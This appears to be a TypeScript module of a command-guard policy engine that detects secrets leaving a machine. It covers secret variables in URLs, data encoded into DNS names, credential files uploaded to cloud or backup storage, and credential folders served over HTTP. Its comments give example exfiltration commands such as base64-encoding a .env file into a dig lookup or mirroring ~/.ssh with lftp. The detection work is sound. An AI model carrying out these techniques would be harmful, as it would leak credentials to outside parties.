import { resolvePath } from '../../paths';
import type { ArgWord, Finding, Invocation, RuleContext } from '../../policy/types';
import { readFinding } from '../credentials';
import { credentialTarget, infoFor, pathsOfWord } from './credentialPaths';
import { dump, dumpTarget, isSecretVariableName, positionals } from './huntCommon';
import { freeFormReadings, optionValue } from '../../registry/freeForm';
import { invocationCommand, toolNamed } from '../../registry/commandModel';
import { EFFECT_RULES, READ_ONLY_COMMANDS } from '../../policy/effects';
import { ownHandlerFor } from '../../policy/handlers/index';
import { dataSentOff } from './dataUploads';
import { gatedCheck } from '../../policy/checkGates';

/**
 * Secrets leaving the machine by roads the sent-out rules of the hunt pack do not read: a secret
 * variable in a URL's path or query to a host that is not its service, a secret or a file's contents
 * spelled into a DNS name, credential files copied to cloud storage, and a folder holding credential
 * files served over HTTP.
 */


/** Which service a variable's name says it belongs to, compared with a host by its words. */
export function variableOwnHost(variable: string, host: string): boolean {
  return serviceWordsOf(variable).some((w) => host.toLowerCase().includes(w));
}

/**
 * The words of a variable's name that could name a service (`MEILI_MASTER_KEY`: meili, master; `GL_TOKEN`: gl with
 * `shortest` 2); none for `API_TOKEN`, `SECRET`, `PROD_PASSWORD`. Matched against hosts from three letters on.
 */
export function serviceWordsOf(variable: string, shortest = 3): string[] {
  return variable.toLowerCase().split('_').filter((w) => w.length >= shortest && !/^(api|key|keys|token|tokens|secret|secrets|access|auth|password|passwd|pass|pwd|url|uri|private|client|app|the|session|bearer|refresh|personal|admin|user|shared|prod|production|dev|development|staging|test)$/.test(w));
}

const DNS_TOOLS = new Set(['dig', 'nslookup', 'host', 'drill', 'ping', 'ping6', 'delv', 'kdig', 'getent', 'resolvectl', 'traceroute', 'mtr']);
const HTTP_TOOLS = new Set(['curl', 'wget', 'http', 'https', 'xh', 'xhs', 'httpie', 'curlie', 'aria2c', 'lynx', 'links', 'w3m']);

export function checkSecretsInAddresses(inv: Invocation): Finding[] {
  const out: Finding[] = [];
  const finding = (variable: string, where: string): Finding => ({
    rule: 'credentials.sent-out',
    risk: 'credential-dump',
    severity: 'ask',
    reason: `${inv.name} sends ${variable} to ${where}, which is not the service it belongs to.`,
    targets: [{ kind: 'credential', name: variable, remote: true, environment: 'unknown', environmentReason: `sent to ${where}, whose environment nothing names` }],
  });
  if (HTTP_TOOLS.has(inv.name)) {
    for (const a of inv.args) {
      const m = /^['"]?[a-z][a-z0-9+.-]*:\/\/([^/?#'"\s]*)([^'"\s]*)/i.exec(a.raw);
      if (!m) continue;
      const authority = m[1] ?? '';
      const host = authority.replace(/^[^@]*@/, '').replace(/:\d+$/, '');
      for (const v of [...a.raw.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)].map((x) => x[1] ?? '')) {
        // In the host part: the request's address is the secret; after it: the query or path carries it.
        if (!isSecretVariableName(v) || /[$]/.test(host) && !host.includes(v)) continue;
        if (!/[$]/.test(host) && variableOwnHost(v, host)) continue;
        out.push(finding(`the secret variable $${v}`, host.includes('$') ? 'a host named by the secret' : host));
        break;
      }
    }
  }
  if (DNS_TOOLS.has(inv.name) || HTTP_TOOLS.has(inv.name) || inv.name === 'nc' || inv.name === 'ncat' || inv.name === 'ssh') {
    // A secret or a file's contents spelled into a host name leaves through DNS: `dig $KEY.x.com`, `dig $(base64 .env).x.com`.
    for (const a of inv.args) {
      const hostLike = a.raw.replace(/^['"]|['"]$/g, '').replace(/^[a-z]+:\/\//i, '').split(/[/?#:]/)[0] ?? '';
      if (!/[$`]/.test(hostLike) || !/\./.test(hostLike)) continue;
      const v = [...hostLike.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)].map((x) => x[1] ?? '').find(isSecretVariableName);
      const substituted = /\$\(|`/.test(hostLike);
      if (v || substituted) {
        out.push(finding(v ? `the secret variable $${v}` : 'the output of a command', `the DNS name ${hostLike.replace(/\$\(.*\)|`.*`/, '…').slice(0, 60)}`));
        break;
      }
    }
  }
  if (out.length === 0 && (DNS_TOOLS.has(inv.name) || HTTP_TOOLS.has(inv.name))) {
    // A literal label that looks like encoded data (`curl https://LfwwUBXz…8a.example.com/`): DNS names are
    // case-insensitive, so a long label mixing cases and digits is a value carried out, not a name.
    for (const a of inv.args) {
      const host = a.text.replace(/^[a-z][a-z0-9+.-]*:\/\//i, '').replace(/^[^/@]*@/, '').split(/[/?#:]/)[0] ?? '';
      const label = host.includes('.') ? host.split('.').find(encodedLabel) : undefined;
      if (label === undefined) continue;
      // The label itself is never shown: it may be the secret.
      const zone = host.slice(host.indexOf(label) + label.length).replace(/^\./, '');
      out.push(finding('a value that looks encoded (a long label mixing upper and lower case and digits)', `a DNS name under ${zone.slice(0, 60) || 'the root'}`));
      break;
    }
  }
  return out;
}

/** A DNS label of 16 or more characters with upper case, lower case and digits. */
function encodedLabel(label: string): boolean {
  return label.length >= 16 && /^[A-Za-z0-9_-]+$/.test(label) && /[A-Z]/.test(label) && /[a-z]/.test(label) && /\d/.test(label);
}

const REGISTRY_READ = new Set(['aws', 'gsutil', 'gcloud']);

/** Cloud storage uploads: the local sources of `aws s3 cp/mv/sync`, `gsutil cp`, `gcloud storage cp`, `az storage blob upload`, `rclone`, `s3cmd put`, `mc cp`. */
function uploadSources(inv: Invocation): ArgWord[] {
  // The clouds' CLIs are read through their registry entries, so an option's value (`--profile default`) is not a source or destination.
  const command = REGISTRY_READ.has(inv.name) ? invocationCommand(inv) : undefined;
  const p = command ? [...command.parsed.path.map((text): ArgWord => ({ text, raw: text, dynamic: false, glob: false })), ...command.parsed.operands] : inv.args.filter((a) => !a.text.startsWith('-'));
  const words = p.map((a) => a.text);
  // rclone's remotes made on the line (`:webdav,url=https://x:`, `:s3:bucket`) are remotes too (stop 32, round 14).
  const remote = (t: string): boolean => /^[a-z0-9]+:\/\//i.test(t) || /^[\w.-]+:/.test(t) && !t.startsWith('/') || /^:[\w-]+[,:]/.test(t);
  const localBefore = (from: number): ArgWord[] => p.slice(from, -1).filter((a) => !remote(a.text));
  switch (inv.name) {
    case 'aws':
      return words[0] === 's3' && ['cp', 'mv', 'sync'].includes(words[1] ?? '') && remote(words[words.length - 1] ?? '') ? localBefore(2) : [];
    case 'gsutil':
      return ['cp', 'mv', 'rsync'].includes(words[0] ?? '') && remote(words[words.length - 1] ?? '') ? localBefore(1) : [];
    case 'gcloud':
      return words[0] === 'storage' && ['cp', 'mv', 'rsync'].includes(words[1] ?? '') && remote(words[words.length - 1] ?? '') ? localBefore(2) : [];
    case 'rclone': {
      // A global option's value may come first (`rclone --config FILE copy …`): the verb is one of the first words.
      const at = words.slice(0, 3).findIndex((w) => ['copy', 'copyto', 'move', 'moveto', 'sync'].includes(w));
      return at >= 0 && remote(words[words.length - 1] ?? '') ? localBefore(at + 1) : [];
    }
    case 's3cmd':
      return ['put', 'sync'].includes(words[0] ?? '') ? localBefore(1) : [];
    case 'mc':
      return ['cp', 'mv', 'mirror'].includes(words[0] ?? '') ? localBefore(1) : [];
    case 'az': {
      if (words[0] !== 'storage' || !/^(blob|file|fs)$/.test(words[1] ?? '') || !/^upload(-batch)?$/.test(words[2] ?? '')) return [];
      const i = inv.args.findIndex((a) => ['-f', '--file', '-s', '--source'].includes(a.text));
      const v = i >= 0 ? inv.args[i + 1] : undefined;
      return v ? [v] : [];
    }
    case 'b2':
      return words[0] === 'upload-file' || words[0] === 'file' ? p.slice(2, 3) : [];
    // Backup and sync tools send their sources to a repository or a peer that may be anywhere:
    // `restic backup ~`, `borg create REPO::ARCHIVE ~/.ssh`, `duplicity ~ s3://bucket`, `kopia snapshot create ~`,
    // `azcopy copy ~/.aws https://…`, `unison ~/.ssh ssh://host//dir`, `lftp -e 'mirror -R ~/.ssh /k' host`.
    case 'restic':
    case 'rustic': {
      const at = words.indexOf('backup');
      return at >= 0 ? p.slice(at + 1) : [];
    }
    case 'borg':
    case 'borg2': {
      const at = words.indexOf('create');
      return at >= 0 ? p.slice(at + 2) : [];
    }
    case 'kopia':
      return words[0] === 'snapshot' && words[1] === 'create' ? p.slice(2) : [];
    case 'duplicity': {
      const from = /^(full|incr|incremental|backup)$/.test(words[0] ?? '') ? 1 : 0;
      return /^[a-z0-9+]+:\/\//i.test(words[words.length - 1] ?? '') ? localBefore(from) : [];
    }
    case 'azcopy':
      return ['copy', 'cp', 'sync'].includes(words[0] ?? '') && remote(words[words.length - 1] ?? '') ? localBefore(1) : [];
    case 'unison':
      return p.some((a) => /^(ssh|socket|rsh):\/\//i.test(a.text)) ? p.filter((a) => !remote(a.text)) : [];
    case 'lftp':
      return lftpReverseMirrors(inv);
    default: {
      // Stop 39: a storage copier nothing describes (`acmesync copy ./db vault:backups`) read as rclone is: a copy verb among the first
      // words, a remote place last. Programs the registry or the effect rules describe keep their own reading (`cp a host:b` names a file).
      if (!unknownCopier(inv.name)) return [];
      // Its options are unknown: a word counts as a source or the destination only when it is an operand whether or not each option
      // takes a value (`--service web --release-version 1.4.2` name no folder `web`).
      const { usual, valued } = freeFormReadings(inv.args);
      const both = valued.operands.filter((w) => usual.operands.includes(w));
      const at = both.slice(0, 2).findIndex((w) => COPY_VERB.test(w.text));
      const last = both[both.length - 1];
      return at >= 0 && both.length > at + 2 && last !== undefined && remote(last.text) ? both.slice(at + 1, -1).filter((w) => !remote(w.text)) : [];
    }
  }
}

/** The copy verbs of a storage copier nothing describes. */
const COPY_VERB = /^(cp|copy|copyto|put|upload|sync|mirror|transfer|send)$/i;

/** A program no registry entry, effect rule or handler describes (its copy verbs are read above). */
function unknownCopier(name: string): boolean {
  return /^[a-z][\w.-]*$/i.test(name) && !UPLOADERS.has(name) && toolNamed(name) === undefined && EFFECT_RULES[name] === undefined && !READ_ONLY_COMMANDS.has(name) && ownHandlerFor(name) === undefined;
}

const BACKUP_SYNC = new Set(['restic', 'rustic', 'borg', 'borg2', 'kopia', 'duplicity', 'azcopy', 'unison', 'lftp']);

/** One upload of an lftp script: the local folder or files it sends, and the remote folder a reverse mirror writes (`-O DIR` for put is not read). */
export interface LftpUpload {
  local: readonly string[];
  remote?: string;
  line: string;
}

/** `lftp -e 'mirror -R LOCAL REMOTE; quit' host`: what a reverse mirror or a put uploads (`mirror -R`, `--reverse`, `put`, `mput`). */
export function lftpUploads(inv: Invocation): LftpUpload[] {
  const out: LftpUpload[] = [];
  const scripts = freeFormReadings(inv.args).valued.options.filter((o) => o.name === '-e' || o.name === '-c').map(optionValue);
  for (const script of scripts) {
    for (const cmd of (script ?? '').split(/[;&|\n]+/)) {
      // Words of lftp's own command language, not an option reader: `mirror -R`, `mirror --reverse`, `mirror -eR`.
      const w = cmd.trim().split(/\s+/);
      const reverse = w[0] === 'mirror' && w.some((x) => /^(-[a-zA-Z]*R[a-zA-Z]*|--reverse)$/.test(x));
      if (!reverse && !/^m?put$/.test(w[0] ?? '')) continue;
      const operands = w.slice(1).filter((x) => !x.startsWith('-'));
      out.push({ local: reverse ? operands.slice(0, 1) : operands, ...(reverse && operands[1] !== undefined ? { remote: operands[1] } : {}), line: cmd.trim().slice(0, 80) });
    }
  }
  return out;
}

function lftpReverseMirrors(inv: Invocation): ArgWord[] {
  return lftpUploads(inv).flatMap((u) => u.local.map((text) => ({ text, raw: text, dynamic: false, glob: false })));
}

/** Static file servers and the folder they serve: `python -m http.server -d ~`, `npx http-server`, `php -S … -t DIR`. */
function servedFolder(inv: Invocation): string | undefined {
  const t = inv.args.map((a) => a.text);
  if (/^python[0-9.]*$/.test(inv.name)) {
    const m = t.indexOf('-m');
    if (m < 0 || !['http.server', 'SimpleHTTPServer', 'uploadserver'].includes(t[m + 1] ?? '')) return undefined;
    const d = t.findIndex((x) => x === '-d' || x === '--directory');
    return d >= 0 ? (t[d + 1] ?? '.') : t.find((x) => x.startsWith('--directory='))?.slice(12) ?? '.';
  }
  if (['http-server', 'serve', 'live-server', 'static-web-server', 'miniserve', 'darkhttpd', 'simple-http-server', 'caddy', 'webfsd'].includes(inv.name)) {
    if (inv.name === 'caddy' && t[0] !== 'file-server') return undefined;
    const root = t.findIndex((x) => x === '--root' || x === '-r' || x === '--dir');
    if (root >= 0) return t[root + 1];
    const pos: string[] = [];
    // caddy's first word is its subcommand; webfsd serves the folder it starts in.
    for (let i = inv.name === 'caddy' ? 1 : 0; i < t.length; i++) {
      const w = t[i] as string;
      if (w.startsWith('-')) {
        if (['-p', '--port', '-a', '--address', '-l', '--listen', '-c', '--cache', '-i', '--interfaces'].includes(w)) i++;
        continue;
      }
      if (!/^\d+$/.test(w)) pos.push(w);
    }
    return pos[0] ?? '.';
  }
  if (inv.name === 'php' && t.includes('-S')) {
    const d = t.indexOf('-t');
    return d >= 0 ? t[d + 1] : '.';
  }
  if (inv.name === 'ruby' && t.some((x) => x === '-run' || x === '-r' && t.includes('un')) && t.includes('httpd')) {
    const after = t.slice(t.indexOf('httpd') + 1).filter((x) => !x.startsWith('-') && !/^\d+$/.test(x));
    return after[0] ?? '.';
  }
  if ((inv.name === 'busybox' && t[0] === 'httpd') || inv.name === 'httpd' && inv.via.includes('busybox')) {
    const h = t.indexOf('-h');
    return h >= 0 ? t[h + 1] : '.';
  }
  return undefined;
}

/**
 * Static hosts that publish a folder on a public address: `surge DIR domain`, `gh-pages -d DIR`,
 * `wrangler pages deploy DIR`, `netlify deploy --dir DIR`, `vercel --public` (the folder it starts in),
 * and `twistd web --path DIR` (a file server). A build output with no credential file in it stays allowed.
 */
const PUBLISHERS: ReadonlySet<string> = new Set(['surge', 'gh-pages', 'wrangler', 'netlify', 'vercel', 'twistd', 'hf', 'huggingface-cli', 'kaggle']);
/**
 * Stop 32 (red team round 14): model and data hubs publish a folder too: `hf upload REPO [LOCAL [PATH_IN_REPO]]` (no
 * local path: the folder named like the repo), `hf upload-large-folder REPO LOCAL`, `kaggle datasets create|version
 * -p DIR`, `kaggle kernels push -p DIR`, `kaggle models instances create|versions create -p DIR` (no -p: this folder).
 */
const KAGGLE_FOLDER = /^(datasets (create|version)|kernels push|models instances (create|versions create))\b/;

function publishedFolder(inv: Invocation): string | undefined {
  // Only the programs below publish a folder: the others' words are not read.
  if (!PUBLISHERS.has(inv.name)) return undefined;
  const { usual, valued } = freeFormReadings(inv.args);
  const valueOf = (...names: string[]): string | undefined => {
    const o = valued.options.find((x) => names.includes(x.name));
    return o ? optionValue(o) : undefined;
  };
  const operands = usual.operands.map((w) => w.text);
  const strict = valued.operands.map((w) => w.text);
  switch (inv.name) {
    case 'surge':
      return /^(list|teardown|login|logout|whoami|token|plan|help)$/.test(operands[0] ?? '') || usual.options.some((o) => o.name === '--help') ? undefined : valueOf('-p', '--project') ?? operands[0] ?? '.';
    case 'gh-pages':
      return valueOf('-d', '--dist');
    case 'wrangler':
      return operands[0] === 'pages' && (operands[1] === 'deploy' || operands[1] === 'publish') ? (strict[2] ?? '.') : undefined;
    case 'netlify':
      return operands[0] === 'deploy' ? valueOf('-d', '--dir') : undefined;
    case 'vercel':
      return usual.options.some((o) => o.name === '--public') && (strict.length === 0 || strict[0] === 'deploy') ? '.' : undefined;
    case 'twistd':
      return operands[0] === 'web' ? valueOf('--path') : undefined;
    case 'hf':
    case 'huggingface-cli':
      if (operands[0] === 'upload-large-folder') return strict[2];
      return operands[0] === 'upload' && strict[1] !== undefined ? (strict[2] ?? strict[1].split('/').pop()) : undefined;
    case 'kaggle':
      return KAGGLE_FOLDER.test(operands.join(' ')) ? (valueOf('-p', '--path') ?? '.') : undefined;
    default:
      return undefined;
  }
}

/** The names `uploadSources` (its cases), `servedFolder` and `publishedFolder` read: every other name finds nothing here (`checkSentFiles.reactsTo`). */
const UPLOADERS: ReadonlySet<string> = new Set(['aws', 'gsutil', 'gcloud', 'rclone', 's3cmd', 'mc', 'az', 'b2', 'restic', 'rustic', 'borg', 'borg2', 'kopia', 'duplicity', 'azcopy', 'unison', 'lftp']);
const STATIC_SERVERS: ReadonlySet<string> = new Set(['http-server', 'serve', 'live-server', 'static-web-server', 'miniserve', 'darkhttpd', 'simple-http-server', 'caddy', 'webfsd', 'php', 'ruby', 'busybox', 'httpd']);

export function checkSentFiles(inv: Invocation, ctx: RuleContext): Finding[] {
  // Names outside its index are checkUnknownCopiers' (below): what a name skips, this finds nothing in (s34PerfSubChecks.test.ts).
  return checkSentFiles.reactsTo(inv.name) ? sentFiles(inv, ctx) : [];
}

function sentFiles(inv: Invocation, ctx: RuleContext): Finding[] {
  const facts = ctx.facts;
  const cwd = inv.cwd || facts.cwd;
  const out: Finding[] = [];
  // Where the upload goes: a repository or peer nothing names is production (the rule for unresolved remote targets).
  const sent = (f: Finding): Finding => {
    // A bucket is another place too (`aws s3 cp config/master.key s3://drop/`): its environment is what its name says.
    if (!BACKUP_SYNC.has(inv.name) && !REGISTRY_READ.has(inv.name)) return { ...f, rule: 'credentials.sent-out' };
    const env = ctx.environmentOf({ values: positionals(inv.args).filter((w) => /[:@]/.test(w)), remote: true });
    return { ...f, rule: 'credentials.sent-out', targets: f.targets.map((t) => ({ ...t, remote: true, environment: env.environment === 'unknown' ? 'production' : env.environment, environmentReason: env.environment === 'unknown' ? `sent to ${BACKUP_SYNC.has(inv.name) ? 'a backup repository or peer' : 'a bucket'} whose environment nothing names (treated as production)` : env.reason })) };
  };
  const sources = uploadSources(inv);
  // Stop 39: a store's data copied to a place the project does not name (support/dataUploads.ts); credential files asked below say more.
  const data = BACKUP_SYNC.has(inv.name) ? undefined : dataSentOff(inv, ctx, sources);
  if (data) out.push(data);
  for (const w of sources) {
    for (const p of pathsOfWord(w, cwd, facts)) {
      const info = infoFor(p, facts);
      if (info) out.push(sent(readFinding('uploads', info, `${inv.name} ${positionals(inv.args).slice(0, 2).join(' ')}`)));
      else if (facts.credentials && facts.fileStatus?.(p) === 'directory') {
        for (const f of facts.credentials.filesUnder(p).slice(0, 4)) out.push(sent(readFinding('uploads', f, `${inv.name} ${positionals(inv.args).slice(0, 2).join(' ')}`)));
      }
    }
  }
  const published = publishedFolder(inv);
  const served = servedFolder(inv) ?? published;
  const how = published !== undefined && inv.name !== 'twistd' ? 'publishes' : 'serves';
  if (served !== undefined && facts.credentials) {
    const dir = resolvePath(cwd, served, facts.home);
    const files = facts.credentials.filesUnder(dir);
    const first = files[0];
    if (first) {
      out.push({
        rule: 'credentials.sent-out',
        risk: 'credential-read',
        severity: 'ask',
        reason: `${inv.name} ${how} ${served === '.' ? 'this folder' : served} ${how === 'publishes' ? 'on a public address' : 'over HTTP'}, with ${first.path} (${first.label})${files.length > 1 ? ` and ${files.length - 1} more credential file${files.length > 2 ? 's' : ''}` : ''} in it.`,
        targets: files.slice(0, 4).map(credentialTarget),
      });
    } else if (facts.credentials.incomplete?.(dir)) {
      out.push(dump('dump', `${inv.name} ${how} ${served} ${how === 'publishes' ? 'on a public address' : 'over HTTP'}; the guard could not list every file there in time to rule out credential files (answering conservatively).`, dumpTarget(served, ctx)));
    }
  }
  return out;
}

/** Sub-check index (support/subChecks.ts): an upload, a static server or a publisher by name; the words of any other command are not read. */
checkSentFiles.reactsTo = (name: string): boolean => UPLOADERS.has(name) || STATIC_SERVERS.has(name) || PUBLISHERS.has(name) || /^python[0-9.]*$/.test(name);

/**
 * Stop 39: the same question for a storage copier nothing describes (`acmesync copy ./db s3://x`), asked only where a copy verb is
 * written (the gate keeps every other command of an undescribed program away: `checkSentFiles.reactsTo` stays the named uploaders').
 */
export const checkUnknownCopiers = gatedCheck('credential-reach: uploads by copiers nothing describes', { words: COPY_VERB }, 'list', (inv: Invocation, ctx: RuleContext): Finding[] => (unknownCopier(inv.name) && !checkSentFiles.reactsTo(inv.name) ? sentFiles(inv, ctx) : []));
